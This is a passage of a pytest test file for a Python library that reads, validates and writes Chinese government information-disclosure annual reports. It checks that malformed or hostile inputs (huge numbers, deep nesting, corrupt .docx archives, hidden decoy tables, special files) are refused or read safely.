"""Hostile and careless input (issue 10): no traceback, bounded cost, nothing lost, no wrong sound.

Each table is one class of defect; each row is a reproduction from the issue. Property tests
over the classes are in ``tests/property/test_hostile.py``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

import attrs
import pytest
from lxml import etree

import govinfo_report as g
from govinfo_report import AnnualReport, ReadError, ReportError, check, dumps, loads, to_dict
from govinfo_report.findings import MAX_FINDINGS, Severity
from govinfo_report.formats.json.codec import write_json
from govinfo_report.model import MAX_ITEMS
from govinfo_report.model.report import identity_findings
from govinfo_report.rules.catalogue import MAX_COUNT

if TYPE_CHECKING:
    from collections.abc import Callable

REPORT = AnnualReport(organ="某县教育局", year=2023)


def _doc() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(dumps(REPORT))
    return data


def _set(path: str, value: object) -> Callable[[dict[str, Any]], None]:
    def mutate(data: dict[str, Any]) -> None:
        *parents, leaf = path.split(".")
        node = data
        for p in parents:
            node = node[p]
        node[leaf] = value

    return mutate


def _both(*mutations: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def mutate(data: dict[str, Any]) -> None:
        for m in mutations:
            m(data)

    return mutate


def _mixed_keys(data: dict[str, Any]) -> None:
    data[1] = 0  # type: ignore[index]  # a Python caller's dict with a non-string key
    data["zz"] = 0


_NP = "requests.new.natural_person"

# (case, mutation, every (code, path) that must be among the errors)
JSON_CASES: list[tuple[str, Callable[[dict[str, Any]], None], set[tuple[str, str]]]] = [
    ("edition is a list", _set("edition", ["2021"]), {("S-FORMAT", "$.edition")}),
    ("edition is an object", _set("edition", {"a": 1}), {("S-FORMAT", "$.edition")}),
    ("edition is the number 2021", _set("edition", 2021), {("S-FORMAT", "$.edition")}),
    ("4300-digit count", _set(_NP, int("9" * 4300)), {("A-NONNEG", f"$.{_NP}")}),
    ("count of 10**400", _set(_NP, 10**400), {("A-NONNEG", f"$.{_NP}")}),
    ("count just past MAX_COUNT", _set(_NP, MAX_COUNT + 1), {("A-NONNEG", f"$.{_NP}")}),
    ("mixed key types", _mixed_keys, {("S-UNKNOWN", "$.1"), ("S-UNKNOWN", "$.zz")}),
    (
        "bad year, organ and title together",
        _both(_set("year", 1), _set("organ", ""), _set("title", "")),
        {("S-VALUE", "$.year"), ("S-VALUE", "$.organ"), ("S-VALUE", "$.title")},
    ),
    (
        "a bad edition does not hide cell errors",
        _both(_set("edition", "2018"), _set(_NP, -1)),
        {("S-FORMAT", "$.edition"), ("A-NONNEG", f"$.{_NP}")},
    ),
    ("year 0", _set("year", 0), {("S-VALUE", "$.year")}),
    ("a control character in the organ", _set("organ", "某县\x01教育局"), {("S-VALUE", "$.organ")}),
    ("U+2028 in the organ", _set("organ", "某县\u2028教育局"), {("S-VALUE", "$.organ")}),
    ("U+0085 in the title", _set("title", "某县\x85教育局"), {("S-VALUE", "$.title")}),
    ("organ of only U+200B", _set("organ", "\u200b\u200b"), {("S-VALUE", "$.organ")}),
    ("a date in 1900 on a 2023 report", _set("date", "1900-01-01"), {("S-VALUE", "$.date")}),
    (
        "a narrative list past MAX_ITEMS",
        _set("overview", {"opening": [1] * (MAX_ITEMS + 1), "parts": []}),
        {("S-LIMIT", "$.overview.opening")},
    ),
]


@pytest.mark.parametrize(
    ("mutate", "expected"), [c[1:] for c in JSON_CASES], ids=[c[0] for c in JSON_CASES]
)
def test_hostile_json_is_refused_by_every_verb(
    mutate: Callable[[dict[str, Any]], None], expected: set[tuple[str, str]]
) -> None:
    data = _doc()
    mutate(data)
    found = {(f.code, f.place.path) for f in check(data) if f.severity is Severity.ERROR}
    assert expected <= found
    assert not g.is_consistent(data)
    with pytest.raises(ReportError) as err:
        g.validate(data)
    assert expected <= {(f.code, f.place.path) for f in err.value.findings}
    if all(isinstance(k, str) for k in data):
        with pytest.raises(ReportError):
            loads(json.dumps(data))


def test_the_largest_count_is_accepted_and_its_sums_are_shown() -> None:
    data = _doc()
    data["requests"]["new"]["natural_person"] = MAX_COUNT
    data["requests"]["new"]["other"] = MAX_COUNT
    findings = check(data)
    assert {f.code for f in findings} <= {"B-ROWTOTAL", "B-BALANCE", "B-HANDLED"}
    assert all(f.message_en for f in findings)


def test_findings_are_capped_with_a_count_of_the_rest() -> None:
    data = _doc()
    for i in range(MAX_FINDINGS + 500):
        data[f"unknown_{i:05}"] = 0
    findings = check(data)
    assert len(findings) == MAX_FINDINGS + 1
    last = findings[-1]
    assert (last.code, last.severity, last.found) == ("S-LIMIT", Severity.ERROR, 500)
    assert "500 more problems" in last.message_en


# (case, value found, what the English message must show)
SPELLING_CASES = [
    ("JSON null", None, "found null"),
    ("an object", {"a": 1}, 'found {"a": 1}'),
    ("a list", [1, "x"], 'found [1, "x"]'),
    ("true", True, "found true"),
    ("a lone surrogate escapes only itself", "某\ud800县", 'found "某\\ud800县"'),
    ("ESC is escaped", "a\x1b[31mb", 'found "a\\u001b[31mb"'),
    ("U+2028 is escaped", "a\u2028b", 'found "a\\u2028b"'),
    ("a huge number is summarised", 10**400, "found <~401 digits>"),
]


@pytest.mark.parametrize(
    ("value", "shown"), [c[1:] for c in SPELLING_CASES], ids=[c[0] for c in SPELLING_CASES]
)
def test_messages_spell_values_as_json(value: object, shown: str) -> None:
    data = _doc()
    data["overview"]["opening"] = [value]
    messages = [f.message_en for f in check(data) if f.place.path == "$.overview.opening[0]"]
    assert messages
    assert shown in messages[0]


@pytest.mark.parametrize(
    ("path", "value", "shown"),
    [
        ("overview", ["x"], '$.overview: must be an object, found ["x"]'),
        ("other_matters", 5, "$.other_matters: must be an object, found 5"),
        ("publication", [], "$.publication: must be an object, found []"),
        ("problems.parts", [1], "$.problems.parts[0]: must be an object, found 1"),
    ],
    ids=["a section as a list", "a section as a number", "publication as a list", "a part as 1"],
)
def test_a_value_where_an_object_is_due_is_shown(path: str, value: object, shown: str) -> None:
    data = _doc()
    _set(path, value)(data)
    messages = [f.message_en for f in check(data)]
    assert any(m.startswith(shown) for m in messages), messages
    assert not any("found nothing" in m for m in messages)


def test_absent_value_says_nothing_and_present_null_says_null() -> None:
    data = _doc()
    del data["format"]
    data["edition"] = None
    messages = {f.place.path: f.message_en for f in check(data)}
    assert "found nothing" in messages["$.format"]
    assert "found null" in messages["$.edition"]


def test_the_number_2021_is_not_the_edition_2021() -> None:
    data = _doc()
    data["edition"] = 2021
    (message,) = [f.message_en for f in check(data) if f.place.path == "$.edition"]
    assert message.startswith('$.edition: "edition" must be one of "2021", "2019", found 2021 ')


def _evolve(obj: Any, **changes: Any) -> Any:  # wrong types on purpose
    return attrs.evolve(obj, **changes)


# (case, change made to a sound report, path named)
MODEL_CASES: list[tuple[str, Callable[[AnnualReport], object], str]] = [
    (
        "requests replaced by its results",
        lambda r: _evolve(r, requests=r.requests.results),
        "$.requests",
    ),
    ("proactive is a string", lambda r: _evolve(r, proactive="x"), "$.proactive"),
    ("appeals is a dict", lambda r: _evolve(r, appeals={}), "$.appeals"),
    ("publication is a string", lambda r: _evolve(r, publication="x"), "$.publication"),
    (
        "a row replaced by a lookalike",
        lambda r: _evolve(r.requests, new=r.appeals.reconsideration),
        "$.new",
    ),
    (
        "a count past MAX_COUNT",
        lambda r: _evolve(r.requests.new, other=MAX_COUNT + 1),
        "$.other",
    ),
    ("a date before the year", lambda r: _evolve(r, date=dt.date(1900, 1, 1)), "$.date"),
    ("a date that is a string", lambda r: _evolve(r, date="2024-01-01"), "$.date"),
    ("edition unhashable", lambda r: _evolve(r, edition=["2021"]), "$.edition"),
]


@pytest.mark.parametrize(
    ("change", "path"), [c[1:] for c in MODEL_CASES], ids=[c[0] for c in MODEL_CASES]
)
def test_model_fields_are_type_checked(change: Callable[[AnnualReport], object], path: str) -> None:
    with pytest.raises(ReportError) as err:
        change(REPORT)
    assert path in {f.place.path for f in err.value.findings}


def test_identity_problems_are_all_named_at_once() -> None:
    with pytest.raises(ReportError) as err:
        AnnualReport(organ="\u200b", year=0, title="a\nb", date=dt.date(1900, 1, 1))
    assert {f.place.path for f in err.value.findings} == {"$.organ", "$.year", "$.title"}
    assert identity_findings(organ="某县", year=2023, date=dt.date(2023, 1, 1)) == []


@pytest.mark.parametrize(
    "value", [{}, REPORT.requests, REPORT.proactive, to_dict(REPORT)], ids=type
)
def test_only_an_annual_report_is_written(value: object, tmp_path: Path) -> None:
    with pytest.raises(TypeError, match="expected an AnnualReport"):
        dumps(value)  # type: ignore[arg-type]  # the point: refused at run time
    target = tmp_path / "out.json"
    with pytest.raises(TypeError):
        write_json(value, target)  # type: ignore[arg-type]
    assert not target.exists()


@pytest.mark.parametrize(
    ("organ", "title"),
    [("某" * 250, None), ("某县", "题" * 300), ("某" * 300, "题" * 600)],
    ids=["250-character organ", "300-character title", "both"],
)
def test_long_identity_renders_and_reads_back(organ: str, title: str | None) -> None:
    report = (
        AnnualReport(organ=organ, year=2023)
        if title is None
        else AnnualReport(organ=organ, year=2023, title=title)
    )
    data = g.docx_bytes(report)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        core = etree.fromstring(z.read("docProps/core.xml"))
    dc_title = core.find("{http://purl.org/dc/elements/1.1/}title")
    assert dc_title is not None
    assert dc_title.text is not None
    assert len(dc_title.text) <= 255
    assert report.title.startswith(dc_title.text.rstrip("…"))
    record = g.read_docx(data)
    assert (record.organ, record.title) == (report.organ, report.title)


def test_the_last_year_renders() -> None:
    assert g.docx_bytes(AnnualReport(organ="某县", year=9999))[:2] == b"PK"


# --- .docx files ----------------------------------------------------------------------


def _rezip(data: bytes, replace: dict[str, bytes], *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    mode = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", mode) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
    return out.getvalue()


def _corrupt_deflate(data: bytes) -> bytes:
    """Flip bytes in the middle of document.xml's compressed stream (headers intact)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.getinfo("word/document.xml")
    raw = bytearray(data)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    for i in range(middle, middle + 16):
        raw[i] ^= 0xFF
    return bytes(raw)


def _custom(value: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
        ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2"'
        f' name="govinfo_report.identity"><vt:lpwstr>{value}</vt:lpwstr></property></Properties>'
    ).encode()


def _many_paragraphs(n: int) -> bytes:
    body = "<w:p/>" * n
    return (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()


BLANK = g.docx_bytes(REPORT)


def test_corrupt_deflate_is_a_read_error() -> None:
    with pytest.raises(ReadError, match="corrupt"):
        g.read_docx(_corrupt_deflate(BLANK))


@pytest.mark.parametrize(
    "value",
    ["[" * 100_000, "{" * 50_000, '{"organ": ' * 20_000, "not json", '{"organ": 1}'],
    ids=["deep lists", "deep objects", "deep values", "not JSON", "wrong types"],
)
def test_hostile_identity_property_is_noted_not_raised(value: str) -> None:
    record = g.read_docx(_rezip(BLANK, {"docProps/custom.xml": _custom(value)}))
    assert "R-UNREAD" in {f.code for f in record.findings}


def test_too_many_elements_are_refused() -> None:
    from govinfo_report.published.readers.docx import MAX_DOCX_ELEMENTS  # noqa: PLC0415

    data = _rezip(
        BLANK,
        {"word/document.xml": _many_paragraphs(MAX_DOCX_ELEMENTS + 10)},
        stored=True,  # not compressed: a compression ratio that passes the bomb check
    )
    with pytest.raises(ReadError, match="XML elements"):
        g.read_docx(data)


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

# (case, runs after a visible "37", what is read)
HIDDEN_RUNS = [
    ("w:vanish", "<w:r><w:rPr><w:vanish/></w:rPr><w:t>99</w:t></w:r>", "37"),
    ("w:specVanish", "<w:r><w:rPr><w:specVanish/></w:rPr><w:t>99</w:t></w:r>", "37"),
    ("w:vanish val=true", '<w:r><w:rPr><w:vanish w:val="true"/></w:rPr><w:t>99</w:t></w:r>', "37"),
    ("deleted text", "<w:del><w:r><w:delText>99</w:delText></w:r></w:del>", "37"),
    ("moved away", "<w:moveFrom><w:r><w:t>99</w:t></w:r></w:moveFrom>", "37"),
    ("w:vanish switched off", '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>9</w:t></w:r>', "379"),
    ("w:vanish false", '<w:r><w:rPr><w:vanish w:val="false"/></w:rPr><w:t>9</w:t></w:r>', "379"),
    ("inserted text", "<w:ins><w:r><w:t>9</w:t></w:r></w:ins>", "379"),
]


@pytest.mark.parametrize(
    ("runs", "text"), [c[1:] for c in HIDDEN_RUNS], ids=[c[0] for c in HIDDEN_RUNS]
)
def test_docx_reads_what_a_person_sees(runs: str, text: str) -> None:
    from govinfo_report.published.readers.docx import _text  # noqa: PLC0415

    p = etree.fromstring(f'<w:p xmlns:w="{_W}"><w:r><w:t>37</w:t></w:r>{runs}</w:p>')
    assert _text(p) == text


# --- encodings ---------------------------------------------------------------------


def _page(charset: str) -> bytes:
    return (
        f'<html><head><meta charset="{charset}"><title>t</title></head><body>'
        "<p>某县教育局2023年政府信息公开工作年度报告</p></body></html>"
    ).encode("gb18030")


@pytest.mark.parametrize(
    "charset",
    [
        "base64",
        "hex",
        "zlib",
        "rot13",
        "uu",
        "idna",
        "punycode",
        "utf-7",
        "unicode_escape",
        "bz2",
        "quopri",
        "undefined",
        "no-such-charset",
    ],
)
def test_only_text_encodings_are_taken_from_a_page(charset: str) -> None:
    record = g.read_html(_page(charset))
    assert record.organ == "某县教育局"


@pytest.mark.parametrize(
    ("data", "text"),
    [
        ("某县教育局年度报告".encode("utf-32"), "某县教育局年度报告"),
        (
            "某县教育局年度报告".encode("utf-32-be").join([b"\x00\x00\xfe\xff", b""]),
            "某县教育局年度报告",
        ),
        ("政府信息公开".encode("gbk"), "政府信息公开"),
        ("年度报告".encode("gbk"), "年度报告"),
        ("主动公开 12 件".encode("gb2312"), "主动公开 12 件"),
    ],
    ids=["UTF-32 LE with BOM", "UTF-32 BE with BOM", "short GBK", "very short GBK", "GB2312"],
)
def test_decoding(data: bytes, text: str) -> None:
    from govinfo_report.published.readers._decode import decode  # noqa: PLC0415

    assert decode(data)[0] == text


def test_fees_with_cents_are_exact() -> None:
    data = _doc()
    data["proactive"]["fees"] = Decimal("12.35")
    assert check(data) == []


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("govinfo_report.many.continuity", "series"),
        ("govinfo_report.many.continuity", "continuity"),
        ("govinfo_report.many.compare", "compare"),
        ("govinfo_report.many.aggregate", "aggregate"),
        ("govinfo_report.published.audit", "audit"),
    ],
)
def test_facade_names_survive_submodule_imports(module: str, name: str) -> None:
    import importlib  # noqa: PLC0415

    importlib.import_module(module)
    assert callable(getattr(g, name))
    assert not isinstance(getattr(g, name), type(g))


# (case, identity change to a sound record read back, path named)
RECORD_CASES: list[tuple[str, dict[str, object], str]] = [
    ("year 0", {"year": 0}, "$.year"),
    ("a 2018 text in the 2021 layout", {"year": 2018}, "$.year"),
    ("edition 2018", {"edition": "2018"}, "$.edition"),
    ("a control character in the organ", {"organ": "某县\x01教育局"}, "$.organ"),
    ("an organ of only U+200B", {"organ": "\u200b"}, "$.organ"),
    ("U+2028 in the title", {"title": "某县\u2028教育局"}, "$.title"),
    ("a date in 1900", {"date": dt.date(1900, 1, 1)}, "$.date"),
]


@pytest.mark.parametrize(
    ("change", "path"), [c[1:] for c in RECORD_CASES], ids=[c[0] for c in RECORD_CASES]
)
def test_audit_and_to_report_share_the_identity_rules(change: dict[str, object], path: str) -> None:
    record = attrs.evolve(g.read_docx(BLANK), **change)  # type: ignore[arg-type]
    errors = {f.place.path for f in g.audit(record) if f.severity is Severity.ERROR}
    assert path in errors
    with pytest.raises(ReportError) as err:
        record.to_report()
    assert path in {f.place.path for f in err.value.findings}


def test_a_sound_record_is_sound_for_both() -> None:
    record = g.read_docx(BLANK)
    assert not [f for f in g.audit(record) if f.severity is Severity.ERROR]
    assert record.to_report() == REPORT


# --- bounded cost in the readers -----------------------------------------------------

_HEAD = (
    "<html><body><h1>某县2023年政府信息公开工作年度报告</h1>"
    "<p>三、收到和处理政府信息公开申请情况</p>"
)
_NEW_ROW = "<tr><td>一、本年新收政府信息公开申请数量</td>" + "<td>1</td>" * 7 + "</tr>"


def _table_page(rows: str, new_row: str = _NEW_ROW) -> bytes:
    return f"{_HEAD}<table>{rows}{new_row}</table></body></html>".encode()


def _docx_table(rows: int) -> bytes:
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    row = "<w:tr>" + cell.format("本年新收") + cell.format("1") + "</w:tr>"
    body = f"<w:body><w:tbl>{row * rows}</w:tbl></w:body>"
    return _rezip(
        BLANK,
        {"word/document.xml": f'<w:document xmlns:w="{_W}">{body}</w:document>'.encode()},
        stored=True,
    )


_TEXT_HEAD = "某县2023年政府信息公开工作年度报告\n三、收到和处理政府信息公开申请情况\n"
_FONTS = (_HEAD + "<font>" * 300 + "<table></table>").encode()
_TABS = (_TEXT_HEAD + "\t" * 7_000_000).encode()
_ROW = "a row of more than"
_WIDE = _table_page(("<tr>" + "<td>1</td>" * 10 + "</tr>") * 1000)

# (case, reader, input, what the error says)
BOUNDED_CASES: list[tuple[str, Callable[[bytes], object], bytes, str]] = [
    (
        "300 rows of rowspan=512 colspan=64",
        g.read_html,
        _table_page('<tr><td rowspan="512" colspan="64">1</td></tr>' * 300),
        "grid positions",
    ),
    (
        "1000 x 10 cells",
        g.read_html,
        _table_page(("<tr>" + "<td>1</td>" * 10 + "</tr>") * 1000),
        "cells",
    ),
    ("300 unclosed <font>", g.read_html, _FONTS, "nested too deeply"),
    ("7 million tabs", g.read_text, _TABS, _ROW),
    ("a table of 10,000 lines", g.read_text, (_TEXT_HEAD + "\t格\n" * 10_000).encode(), _ROW),
    (
        "1000 one-cell rows of distinct labels",
        g.read_text,
        (_TEXT_HEAD + "".join(f"\t格{i}\n\n" for i in range(1000))).encode(),
        "loose label matching",
    ),
    (
        "10,000 one-cell rows",
        g.read_text,
        (_TEXT_HEAD + "".join(f"\t格{i}\n\n" for i in range(10_000))).encode(),
        "more than 5000 cells",
    ),
    ("a .docx table of 10,000 rows", g.read_docx, _docx_table(10_000), "more than 5000 cells"),
]


@pytest.mark.parametrize(
    ("reader", "data", "says"), [c[1:] for c in BOUNDED_CASES], ids=[c[0] for c in BOUNDED_CASES]
)
def test_costly_inputs_are_refused_with_a_clear_error(
    reader: Callable[[bytes], object], data: bytes, says: str
) -> None:
    with pytest.raises(ReadError) as err:
        reader(data)
    assert says in err.value.reason_en
    assert err.value.reason_zh


_NINES = "9" * 5000
_LONG_ROW = _NEW_ROW.replace("<td>1</td>", f"<td>{_NINES}</td>", 1)

# (case, page, the raw text of the 自然人 cell of 一、本年新收)
STILL_READ = [
    ("colspan of 5000 nines", _table_page(f'<tr><td colspan="{_NINES}">x</td></tr>'), "1"),
    ("rowspan of 5000 nines", _table_page(f'<tr><td rowspan="{_NINES}">x</td></tr>'), "1"),
    ("a 5000-digit cell", _table_page("", _LONG_ROW), _NINES),
]


@pytest.mark.parametrize(
    ("page", "raw"), [c[1:] for c in STILL_READ], ids=[c[0] for c in STILL_READ]
)
def test_absurd_values_are_read_and_audited(page: bytes, raw: str) -> None:
    record = g.read_html(page)
    cell = record.cell(("requests", "new", "natural_person"))
    assert cell is not None
    assert cell.raw == raw
    findings = g.audit(record)  # no traceback: the sums and messages stay small
    assert all(f.message_en and f.message_zh for f in findings)
    nonneg = [f for f in findings if f.code == "A-NONNEG" and f.place.column == "自然人"]
    assert bool(nonneg) == (len(raw) > len(str(MAX_COUNT)))


# --- nothing destroyed: outputs and inputs ---------------------------------------------


def _cli(*argv: str) -> tuple[int, str, str]:
    from govinfo_report.cli import run  # noqa: PLC0415

    out, err = io.StringIO(), io.StringIO()
    code = run(list(argv), out, err)
    return code, out.getvalue(), err.getvalue()


def test_the_writer_never_touches_the_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os  # noqa: PLC0415
    import threading  # noqa: PLC0415

    from govinfo_report._io import atomic_write  # noqa: PLC0415

    old = os.umask(0o022)
    try:

        def refuse(_: int) -> int:
            raise AssertionError("the process umask was changed")  # noqa: EM101, TRY003

        monkeypatch.setattr(os, "umask", refuse)

        def write(n: int) -> None:
            for i in range(40):
                atomic_write(tmp_path / f"{n}-{i}.json", b"{}")

        threads = [threading.Thread(target=write, args=(n,)) for n in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        monkeypatch.undo()
        assert os.umask(0o022) == 0o022
    finally:
        os.umask(old)
    modes = {oct(p.stat().st_mode & 0o777) for p in tmp_path.iterdir()}
    assert modes == {"0o644"}
    assert len(list(tmp_path.iterdir())) == 8 * 40


def _fifo(path: Path) -> Path:
    import os  # noqa: PLC0415

    os.mkfifo(path)
    return path


def _dangling(path: Path) -> Path:
    path.symlink_to(path.parent / "nowhere")
    return path


def _folder(path: Path) -> Path:
    path.mkdir()
    return path


# (case, how the target is made, what the error says)
REFUSED_TARGETS: list[tuple[str, Callable[[Path], Path], str]] = [
    ("/dev/null", lambda _: Path("/dev/null"), "not a regular file"),
    ("a FIFO", _fifo, "not a regular file"),
    ("a folder", _folder, "folder"),
    ("a dangling symlink", _dangling, "dangling"),
    ("an empty path", lambda _: Path(), "folder"),
]


@pytest.mark.parametrize(
    ("make", "says"), [c[1:] for c in REFUSED_TARGETS], ids=[c[0] for c in REFUSED_TARGETS]
)
def test_non_regular_targets_are_refused_and_kept(
    make: Callable[[Path], Path], says: str, tmp_path: Path
) -> None:
    target = make(tmp_path / "out.json")
    before = target.lstat()
    with pytest.raises(g.WriteError) as err:
        write_json(REPORT, target)
    assert says in err.value.reason_en
    after = target.lstat()
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)


def test_an_empty_output_path_is_a_clear_error() -> None:
    with pytest.raises(g.WriteError, match="no output file was named"):
        write_json(REPORT, "")
    code, _, err = _cli("schema", "-o", "")
    assert code == 2
    assert "no output file was named" in err


def test_a_symlink_is_written_through(tmp_path: Path) -> None:
    real = tmp_path / "real.json"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.json"
    link.symlink_to(real)
    write_json(REPORT, link)
    assert link.is_symlink()
    assert loads(real.read_bytes()) == REPORT
    assert real.stat().st_mode & 0o777 == 0o640


def test_a_killed_writer_leaves_no_temporary_file(tmp_path: Path) -> None:
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415
    import time  # noqa: PLC0415

    code = (
        "import os, sys, time\n"
        "from govinfo_report import _io\n"
        "def stall(fd):\n"
        "    print('writing', flush=True)\n"
        "    time.sleep(60)\n"
        "os.fsync = stall\n"
        f"_io.atomic_write({str(tmp_path / 'out.json')!r}, b'x' * 100000)\n"
    )
    child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE)
    assert child.stdout is not None
    assert child.stdout.readline() == b"writing\n"  # mid-write, data written, not renamed
    child.kill()  # SIGKILL: no cleanup runs
    child.wait()
    child.stdout.close()
    time.sleep(0.1)
    assert list(tmp_path.iterdir()) == []


def test_stale_temporary_files_of_dead_processes_are_swept(tmp_path: Path) -> None:
    import os  # noqa: PLC0415
    import time  # noqa: PLC0415

    dead = 2**22 + 12345  # above the kernel's pid_max default: no such process
    stale = tmp_path / f".out.json.{dead}.0123456789abcdef.tmp"
    fresh = tmp_path / f".out.json.{dead}.fedcba9876543210.tmp"
    mine = tmp_path / f".out.json.{os.getpid()}.00000000000000aa.tmp"
    other = tmp_path / f".other.json.{dead}.0123456789abcdef.tmp"
    for p in (stale, fresh, mine, other):
        p.write_bytes(b"")
    old = time.time() - 3600
    for p in (stale, mine, other):
        os.utime(p, (old, old))
    write_json(REPORT, tmp_path / "out.json")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["out.json", fresh.name, mine.name, other.name]
    )


# (command line with {out} for an output in a folder that does not exist yet)
OUTPUT_COMMANDS = [
    ("schema", ["schema", "-o", "{out}/schema.json"]),
    ("render", ["render", "{example}", "-o", "{out}/r.docx"]),
    ("read", ["read", "{page}", "-o", "{out}/r.json"]),
    ("aggregate", ["aggregate", "{example}", "-o", "{out}/t.json", "--organ", "某县"]),
]


@pytest.mark.parametrize(
    "argv", [c[1] for c in OUTPUT_COMMANDS], ids=[c[0] for c in OUTPUT_COMMANDS]
)
def test_every_output_makes_its_folder(argv: list[str], tmp_path: Path) -> None:
    example = tmp_path / "in.json"
    example.write_text(dumps(REPORT), encoding="utf-8")
    page = tmp_path / "in.docx"
    page.write_bytes(BLANK)
    out = tmp_path / "new" / "folder"
    args = [a.format(out=out, example=example, page=page) for a in argv]
    code, _, err = _cli(*args)
    assert code == 0, err
    assert len(list(out.iterdir())) == 1


def test_an_unreadable_subfolder_is_named_and_fails_the_batch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import os  # noqa: PLC0415

    units = tmp_path / "units"
    (units / "locked").mkdir(parents=True)
    (units / "a.json").write_text(dumps(REPORT), encoding="utf-8")
    (units / "locked" / "b.json").write_text(dumps(REPORT), encoding="utf-8")
    real = os.scandir

    def scandir(path: Any = ".") -> Any:
        if Path(path).name == "locked":  # mode 000 for anyone but root: tests run as root
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    total = tmp_path / "t.json"
    published = tmp_path / "published.json"
    published.write_text(dumps(REPORT), encoding="utf-8")
    for argv in (
        ["aggregate", str(units), "-o", str(total), "--organ", "某县"],
        ["aggregate", str(units), "-o", str(tmp_path / "t.xlsx"), "--organ", "某县"],
        ["audit", str(units)],
        ["compare", str(published), "--units", str(units)],
    ):
        code, out, err = _cli(*argv, "--lang", "en")
        assert code == 2, (argv, out, err)
        assert f"{units / 'locked'}: cannot read the folder (Permission denied)" in out + err
    assert not total.exists()  # no partial total written
    assert not (tmp_path / "t.xlsx").exists()
    _, out, _ = _cli("audit", str(units), "--lang", "en")
    assert "1 unreadable" in out  # the folder is counted in the tally
    _, out, err = _cli("compare", str(published), "--units", str(units), "--lang", "en")
    assert "every cell is the same" not in out  # never compared with part of the units


def test_a_folder_of_mode_000_fails_the_batch(tmp_path: Path) -> None:
    import os  # noqa: PLC0415

    units = tmp_path / "units"
    locked = units / "locked"
    locked.mkdir(parents=True)
    (units / "a.json").write_text(dumps(REPORT), encoding="utf-8")
    (locked / "b.json").write_text(dumps(REPORT), encoding="utf-8")
    locked.chmod(0)
    try:
        if os.access(locked, os.R_OK):
            pytest.skip("this user (root) reads a folder of mode 000: see the scandir test above")
        total = tmp_path / "t.json"
        code, _, err = _cli("aggregate", str(units), "-o", str(total), "--organ", "某县")
        assert code == 2
        assert str(locked) in err
        assert not total.exists()
    finally:
        locked.chmod(0o755)


def test_a_fifo_is_no_input(tmp_path: Path) -> None:
    import os  # noqa: PLC0415
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415

    units = tmp_path / "units"
    units.mkdir()
    (units / "a.json").write_text(dumps(REPORT), encoding="utf-8")
    os.mkfifo(units / "b.json")
    os.mkfifo(tmp_path / "named.json")
    with pytest.raises(ReadError, match="not a regular file"):
        g.load(tmp_path / "named.json")
    # In a child with a timeout: a FIFO that were opened for reading would block forever.
    run = [sys.executable, "-m", "govinfo_report"]
    total = tmp_path / "t.json"
    argv = ["aggregate", str(units), "-o", str(total), "--organ", "某县"]
    done = subprocess.run([*run, *argv], capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    assert load_total(total).requests == REPORT.requests
    argv = ["compare", str(units / "a.json"), "--units", str(units)]
    done = subprocess.run([*run, *argv], capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr  # the FIFO is no unit: never opened


def load_total(path: Path) -> AnnualReport:
    return g.load(path)


# --- what a person sees ----------------------------------------------------------------

_SEEN_HEAD = (
    "<html><body><h1>某县2023年政府信息公开工作年度报告</h1><p>二、主动公开政府信息情况</p>"
)
_REAL = (
    "<table><tr><td>第二十条第（一）项</td></tr>"
    "<tr><td>规章</td><td>2</td><td>0</td><td>5</td></tr></table>"
)
_DECOY = "<table {}><tr><td>规章</td><td>999</td><td>0</td><td>999</td></tr></table>"

# (case, attributes of a decoy table printed before the report's)
HIDDEN_TABLES = [
    ("display:none", 'style="display:none"'),
    ("display: none !important", 'style="color:red; display: none !important"'),
    ("the hidden attribute", "hidden"),
    ("aria-hidden", 'aria-hidden="true"'),
    ("visibility:hidden", 'style="visibility:hidden"'),
    ("zero size", 'style="width:0;height:0;overflow:hidden"'),
    ("zero font size", 'style="font-size:0"'),
    ("Word's mso-hide", "style='mso-hide:all'"),
]


@pytest.mark.parametrize("attrs_", [c[1] for c in HIDDEN_TABLES], ids=[c[0] for c in HIDDEN_TABLES])
def test_hidden_html_is_not_read(attrs_: str) -> None:
    page = (_SEEN_HEAD + _DECOY.format(attrs_) + _REAL + "</body></html>").encode()
    record = g.read_html(page)
    assert [(c.key[-1], c.raw) for c in record.cells][:3] == [
        ("issued", "2"),
        ("repealed", "0"),
        ("in_force", "5"),
    ]


@pytest.mark.parametrize(
    ("cell", "raw"),
    [
